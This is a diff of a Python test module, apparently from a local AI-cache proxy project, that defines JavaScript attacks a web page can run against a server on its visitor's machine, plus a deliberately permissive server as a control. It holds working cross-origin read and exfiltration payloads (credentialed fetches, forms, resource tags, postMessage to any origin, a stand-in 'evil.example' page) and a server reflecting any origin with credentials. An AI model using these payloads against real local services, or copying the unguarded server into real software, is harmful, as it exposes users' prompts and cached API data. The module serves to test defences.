@@ -1,25 +1,27 @@
 """What a web page can try against a server on the machine of its visitor, and a server that lets it all happen.
 
-Each attack is a piece of JavaScript. It runs in the page, knows `proxy` and `page` (addresses of the victim), `CHAT` (the
-body of a call whose answer is in the cache), and returns what it could read.
+Each attack is a piece of JavaScript. It runs in the page, knows `proxy` and `page` (addresses of the victim) and `CHAT`
+(the body of a call whose answer is in the cache), and returns what it could read.
 """
 
 from __future__ import annotations
 
 import base64
 import hashlib
+import json
 import threading
 from dataclasses import dataclass
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Protocol
 
 MARK = "a prompt that no page may read"
-CHAT = '{"model": "gpt-4o", "messages": [{"role": "user", "content": "%s"}]}' % MARK
+CHAT = json.dumps({"model": "gpt-4o", "messages": [{"role": "user", "content": MARK}]})
 BASED = "/https://api.openai.com/v1/chat/completions"
 EVIL = "/http://evil.example/a.html"
 """A base URL, to a page of the attacker."""
 
-PAGE_OF_THE_ATTACKER = (
-    """<!doctype html><title>evil</title><body><script>
+PAGE_OF_THE_ATTACKER = """<!doctype html><title>evil</title><body><script>
+const CHAT = @CHAT, BASED = @BASED;
 (async () => {
   let got = "";
   for (const path of ["/entries", "/", "/metrics", "/ai-cache/status"])
@@ -27,22 +29,21 @@ PAGE_OF_THE_ATTACKER = (
   try {
     await fetch("/ai-cache/scope", {method: "POST", headers: {"X-AI-Cache": "1"}, body: '{"namespace": "taken"}'});
   } catch (error) {}
-  try { got += await (await fetch("%s", {method: "POST", body: %r})).text(); } catch (error) {}
+  try { got += await (await fetch(BASED, {method: "POST", body: CHAT})).text(); } catch (error) {}
   for (const other of [window.opener, window.parent]) if (other && other !== window) other.postMessage(got, "*");
 })();
-</script>"""
-    % (BASED, CHAT)
-)
+</script>""".replace("@CHAT", json.dumps(CHAT)).replace("@BASED", json.dumps(BASED))
 """Runs in the origin of the victim, where its base URLs serve anybody."""
 
-LIBRARY = (
-    """
+_LIBRARY = """
 const [proxy, page] = arguments, done = arguments[arguments.length - 1];
-const CHAT = %r, BASED = %r, EVIL = %r, READ = ["/entries", "/", "/metrics", "/ai-cache/status"];
+const CHAT = @CHAT, BASED = @BASED, EVIL = @EVIL, READ = ["/entries", "/", "/metrics", "/ai-cache/status"];
 const later = milliseconds => new Promise(go => setTimeout(go, milliseconds, ""));
 const loads = element => new Promise(go => { element.onload = element.onerror = () => go(""); });
 const told = () => new Promise(go => addEventListener("message", event => go(String(event.data)), {once: true}));
-const text = async (url, options) => { try { return await (await fetch(url, options)).text(); } catch (error) { return ""; } };
+const text = async (url, options) => {
+  try { return await (await fetch(url, options)).text(); } catch (error) { return ""; }
+};
 const put = (tag, properties, where) => {
   const element = Object.assign(document.createElement(tag), properties);
   const over = loads(element);
@@ -52,7 +53,8 @@ const put = (tag, properties, where) => {
 const form = async (url, fields, kind) => {
   const frame = Object.assign(document.createElement("iframe"), {name: "f" + Math.random()});
   document.body.append(frame);
-  const sent = Object.assign(document.createElement("form"), {method: "POST", action: url, enctype: kind, target: frame.name});
+  const where = {method: "POST", action: url, enctype: kind, target: frame.name};
+  const sent = Object.assign(document.createElement("form"), where);
   for (const [name, value] of Object.entries(fields))
     sent.append(Object.assign(document.createElement("input"), {name, value}));
   document.body.append(sent);
@@ -60,10 +62,16 @@ const form = async (url, fields, kind) => {
   sent.submit();
   await Promise.race([over, later(2000)]);
 };
-(async () => { %%s })().then(got => done(String(got || "")), error => done("error: " + error));
+(async () => { @SCRIPT })().then(got => done(String(got || "")), error => done("error: " + error));
 """
-    % (CHAT, BASED, EVIL)
-)
+
+
+def runnable(script: str) -> str:
+    """`script` with what attacks use, for `execute_async_script` with the two addresses of the victim."""
+    whole = _LIBRARY
+    for name, value in (("@CHAT", CHAT), ("@BASED", BASED), ("@EVIL", EVIL)):
+        whole = whole.replace(name, json.dumps(value))
+    return whole.replace("@SCRIPT", script)
 
 
 @dataclass(frozen=True)
@@ -81,12 +89,15 @@ class Attack:
 ATTACKS = [
     Attack(
         "fetch with CORS",
-        'let got = ""; for (const at of [proxy, page]) for (const path of READ) got += await text(at + path); return got',
+        """let got = "";
+        for (const at of [proxy, page]) for (const path of READ) got += await text(at + path);
+        return got""",
         reads=True,
     ),
     Attack(
         "fetch with CORS and credentials",
-        'return await text(page + "/entries", {credentials: "include"}) + await text(proxy + "/", {credentials: "include"})',
+        """const options = {credentials: "include"};
+        return await text(page + "/entries", options) + await text(proxy + "/", options)""",
         reads=True,
     ),
     Attack(
@@ -162,11 +173,16 @@ ATTACKS = [
         "pictures, scripts, styles, objects",
         """const models = proxy + "/https://api.openai.com/v1/models";
         await Promise.all([
-          put("img", {src: models + "?1"}), put("script", {src: models + "?2"}, document.head),
-          put("link", {rel: "stylesheet", href: models + "?3"}, document.head), put("object", {data: models + "?4"}),
-          put("video", {src: models + "?5", onloadeddata: null}), put("link", {rel: "prefetch", href: models + "?6"}, document.head),
-          put("script", {src: models + "?7", type: "module"}, document.head), put("script", {src: page + "/entries"}, document.head),
-          put("img", {src: page + "/entries", crossOrigin: "anonymous"})])""",
+          put("img", {src: models + "?1"}),
+          put("script", {src: models + "?2"}, document.head),
+          put("link", {rel: "stylesheet", href: models + "?3"}, document.head),
+          put("object", {data: models + "?4"}),
+          put("video", {src: models + "?5", onloadeddata: null}),
+          put("link", {rel: "prefetch", href: models + "?6"}, document.head),
+          put("script", {src: models + "?7", type: "module"}, document.head),
+          put("script", {src: page + "/entries"}, document.head),
+          put("img", {src: page + "/entries", crossOrigin: "anonymous"}),
+        ])""",
         buys=True,
     ),
     Attack(
@@ -212,11 +228,16 @@ REBOUND = Attack(
 """The page's own name leads to the victim by now: all it asks is of its own origin."""
 
 
+class _Quiet(ThreadingHTTPServer):
+    def handle_error(self, request: object, client_address: object) -> None:
+        """A browser leaves when it likes."""
+
+
 class Web:
     """A web server of an attacker: an empty page at every path."""
 
     def __init__(self, server: type[BaseHTTPRequestHandler]) -> None:
-        self._server = ThreadingHTTPServer(("127.0.0.1", 0), server)
+        self._server = _Quiet(("127.0.0.1", 0), server)
         self._server.daemon_threads = True
         self.port = int(self._server.server_address[1])
         threading.Thread(target=self._server.serve_forever, daemon=True).start()
@@ -226,6 +247,10 @@ class Web:
         self._server.server_close()
 
 
+NO_ORIGIN = "/sandboxed"
+"""Where the page of `EmptyPage` says `Origin: null`."""
+
+
 class EmptyPage(BaseHTTPRequestHandler):
     def do_GET(self) -> None:
         body = b"<!doctype html><title>a page</title><body>"
@@ -233,6 +258,8 @@ class EmptyPage(BaseHTTPRequestHandler):
         self.send_header("content-type", "text/html")
         self.send_header("content-length", str(len(body)))
         self.send_header("connection", "close")
+        if self.path == NO_ORIGIN:
+            self.send_header("content-security-policy", "sandbox allow-scripts allow-forms allow-popups")
         self.end_headers()
         self.wfile.write(body)
         self.close_connection = True
@@ -245,6 +272,28 @@ class EmptyPage(BaseHTTPRequestHandler):
 class Counts:
     controls: int = 0
     buys: int = 0
+
+    def see(self, method: str, path: str) -> None:
+        if method != "OPTIONS":
+            self.buys += path.startswith("/http")
+            self.controls += method == "POST" and not path.startswith("/http")
+
+
+class Fields(Protocol):
+    def get(self, name: str, default: str = "", /) -> str | None: ...
+
+
+def unguarded(path: str, headers: Fields) -> tuple[list[tuple[str, str]], bytes]:
+    """The answer of a server that lets everybody read everything: its header fields and its body."""
+    events = "event-stream" in (headers.get("accept", "") or "")
+    body = PAGE_OF_THE_ATTACKER if path == EVIL else f"data: {MARK}\n\n" if events else MARK
+    fields = [
+        ("content-type", "text/event-stream" if events else "text/html"),
+        ("access-control-allow-origin", headers.get("origin", "") or "*"),
+        ("access-control-allow-credentials", "true"),
+        ("access-control-allow-headers", headers.get("access-control-request-headers", "") or ""),
+    ]
+    return fields, body.encode()
 
 
 class Unguarded(Web):
@@ -259,27 +308,18 @@ class Unguarded(Web):
             def _any(self) -> None:
                 length = int(self.headers.get("content-length") or 0)
                 self.rfile.read(length)
-                if self.command != "OPTIONS":
-                    if self.path.startswith("/http"):
-                        counts.buys += 1
-                    elif self.command == "POST":
-                        counts.controls += 1
+                counts.see(self.command, self.path)
                 if key := self.headers.get("sec-websocket-key"):
                     self._websocket(key)
                     return
-                events = "event-stream" in self.headers.get("accept", "")
-                html = self.path == EVIL
-                body = PAGE_OF_THE_ATTACKER if html else f"data: {MARK}\n\n" if events else MARK
+                fields, body = unguarded(self.path, self.headers)
                 self.send_response(200)
-                self.send_header("content-type", "text/event-stream" if events else "text/html")
-                self.send_header("content-length", str(len(body)))
-                self.send_header("access-control-allow-origin", self.headers.get("origin") or "*")
-                self.send_header("access-control-allow-credentials", "true")
-                self.send_header("access-control-allow-headers", self.headers.get("access-control-request-headers", ""))
+                for name, value in (*fields, ("content-length", str(len(body)))):
+                    self.send_header(name, value)
                 self.end_headers()
-                self.wfile.write(body.encode())
+                self.wfile.write(body)
 
-            do_GET = do_POST = do_OPTIONS = do_HEAD = _any  # noqa: N815
+            do_GET = do_POST = do_OPTIONS = do_HEAD = _any
 
             def _websocket(self, key: str) -> None:
                 magic = (key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()
